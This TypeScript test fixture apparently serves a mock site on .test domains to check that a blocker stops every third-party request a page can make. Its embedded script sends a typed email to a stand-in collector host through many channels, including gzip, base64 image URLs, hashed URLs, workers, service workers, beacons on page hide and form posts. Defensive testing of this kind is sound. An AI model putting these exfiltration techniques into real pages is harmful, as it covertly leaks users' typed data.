import { type Answer, type StandIn, startStandIn } from './stand-in.ts'

export const mechanismsUrl = 'https://page.mechanisms.test/'

/** Every way a page can make a browser ask, each under its own path of one third party. */
export const mechanisms = [
  'script.js',
  'style.css',
  'import.css',
  'font.woff',
  'background.png',
  'img.png',
  'picture.png',
  'object.svg',
  'audio.mp3',
  'video.mp4',
  'iframe.html',
  'prefetch',
  'websocket',
  'server-sent-events',
  'fetch',
  'xmlhttprequest',
  'send-beacon',
  'redirect',
  'redirected',
  'keepalive',
  'iframe-fetch',
  'iframe-fetch-depth-2',
  'webworker-fetch',
  'nested-worker',
  'sharedworker-fetch',
  'serviceworker-first',
  'serviceworker-install',
  'csp-report',
  'late-8-seconds',
  'scroll',
  'click',
  'hover',
  'pagehide',
  'visibility',
] as const

/** Ways in which a typed value leaves; each must be seen with the value, and none may arrive. */
export const typedWays = [
  'plain-body',
  'blob-body',
  'form-data',
  'json-gzip',
  'beacon-blob',
  'image-base64',
  'url-sha256',
  'worker',
  'shared-worker',
  'service-worker',
  'late-typed',
  'hide-typed',
  'document-post',
] as const

const third = 'https://third-party.test/'

const document = `<!doctype html><html lang="en"><head><title>Mechanisms</title><link rel="icon" href="${third}favicon.ico">
<script src="${third}script.js"></script><link rel="stylesheet" href="${third}style.css"><link rel="prefetch" href="${third}prefetch">
<style>@import url("${third}import.css"); @font-face { font-family: x; src: url(${third}font.woff) } body { font-family: x } #bg { background: url(${third}background.png) }</style></head>
<body><h1>Mechanisms</h1><div id="bg">bg</div><img src="${third}img.png"><img src="https://forbidden.test/x.png">
<picture><source srcset="${third}picture.png"><img></picture><object data="${third}object.svg" type="image/svg+xml"></object>
<audio src="${third}audio.mp3" preload="auto"></audio><video src="${third}video.mp4" preload="auto"></video>
<iframe src="${third}iframe.html"></iframe><iframe src="/depth-1"></iframe><details><summary>More</summary>x</details>
<form action="${third}document-post" method="post"><label>Email <input name="email" type="email"></label><button>Go</button></form>
<script>
var t = ${JSON.stringify(third)}, quiet = function () {}
new WebSocket(t.replace('https', 'wss') + 'websocket'); new EventSource(t + 'server-sent-events'); fetch(t + 'fetch').catch(quiet)
var x = new XMLHttpRequest(); x.open('GET', t + 'xmlhttprequest'); x.send()
navigator.sendBeacon(t + 'send-beacon', 'a=1'); fetch(t + 'redirect').catch(quiet); fetch(t + 'keepalive', { keepalive: true, method: 'POST', body: 'x' }).catch(quiet)
var worker = new Worker('/worker.js'), shared = new SharedWorker('/shared.js'); navigator.serviceWorker.register('/service.js')
var inner = document.createElement('iframe'); document.body.append(inner); inner.contentWindow.fetch(t + 'iframe-fetch').catch(quiet)
setTimeout(function () { fetch(t + 'late-8-seconds').catch(quiet) }, 8000)
function once(target, type, path) { target.addEventListener(type, function () { fetch(t + path).catch(quiet) }, { once: true }) }
once(window, 'scroll', 'scroll'); once(document, 'click', 'click'); once(document, 'mouseover', 'hover')
addEventListener('pagehide', function () { navigator.sendBeacon(t + 'pagehide', new Blob(['bye'])); if (typed) navigator.sendBeacon(t + 'hide-typed', new Blob([typed])) })
document.addEventListener('visibilitychange', function () { fetch(t + 'visibility', { method: 'POST', keepalive: true, body: 'v', mode: 'no-cors' }) })
var typed = ''
function post(path, body) { fetch(t + path, { method: 'POST', mode: 'no-cors', body: body }).catch(quiet) }
document.querySelector('input').addEventListener('change', function (event) {
  typed = event.target.value
  post('plain-body', 'v=' + typed); post('blob-body', new Blob([typed])); var f = new FormData(); f.append('em', typed); post('form-data', f)
  new Response(new Blob([JSON.stringify({ email: typed })]).stream().pipeThrough(new CompressionStream('gzip'))).blob().then(function (b) { post('json-gzip', b) })
  navigator.sendBeacon(t + 'beacon-blob', new Blob([typed])); new Image().src = t + 'image-base64?d=' + encodeURIComponent(btoa(typed))
  crypto.subtle.digest('SHA-256', new TextEncoder().encode(typed.toLowerCase())).then(function (h) { new Image().src = t + 'url-sha256?em=' + Array.from(new Uint8Array(h)).map(function (b) { return ('0' + b.toString(16)).slice(-2) }).join('') })
  worker.postMessage(typed); shared.port.postMessage(typed); navigator.serviceWorker.ready.then(function (r) { r.active.postMessage(typed) })
  setTimeout(function () { post('late-typed', typed) }, 8000); document.forms[0].submit()
})
</script></body></html>`

const scripts: Record<string, string> = {
  '/worker.js': `fetch('${third}webworker-fetch').catch(() => {}); new Worker('/nested.js'); onmessage = (e) => fetch('${third}worker', { method: 'POST', mode: 'no-cors', body: e.data }).catch(() => {})`,
  '/nested.js': `fetch('${third}nested-worker').catch(() => {})`,
  '/shared.js': `fetch('${third}sharedworker-fetch').catch(() => {}); onconnect = (c) => { c.ports[0].onmessage = (e) => fetch('${third}shared-worker', { method: 'POST', mode: 'no-cors', body: e.data }).catch(() => {}) }`,
  '/service.js': `fetch('${third}serviceworker-first').catch(() => {}); addEventListener('install', (e) => { e.waitUntil(fetch('${third}serviceworker-install').catch(() => {})); skipWaiting() }); onmessage = (e) => fetch('${third}service-worker', { method: 'POST', mode: 'no-cors', body: e.data }).catch(() => {})`,
}
const frames: Record<string, string> = {
  '/depth-1': '<iframe src="/depth-2"></iframe>',
  '/depth-2': `<script>fetch('${third}iframe-fetch-depth-2').catch(() => {})</script>`,
}

const page: Answer = ({ path }, response) => {
  const send = (type: string, body: string, more: Record<string, string> = {}) =>
    void response.writeHead(200, { 'content-type': type, ...more }).end(body)
  if (path === '/') {
    const policy = `default-src * 'unsafe-inline' data: blob:; img-src ${third} 'self'; report-uri ${third}csp-report`
    send('text/html', document, { 'content-security-policy': policy })
  } else if (scripts[path] !== undefined) send('text/javascript', scripts[path])
  else if (frames[path] !== undefined) send('text/html', frames[path])
  else response.writeHead(404).end()
}

const collector: Answer = ({ path }, response) => {
  const headers = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }
  const types: Record<string, string> = { css: 'text/css', js: 'text/javascript', html: 'text/html' }
  if (path === '/redirect') return void response.writeHead(302, { ...headers, location: `${third}redirected` }).end()
  response.writeHead(200, { ...headers, 'content-type': types[path.split('.').at(-1) ?? ''] ?? 'text/plain' }).end()
}

export function startMechanismsSite(): Promise<StandIn> {
  return startStandIn({
    'page.mechanisms.test': page,
    'third-party.test': collector,
    'forbidden.test': collector,
  })
}
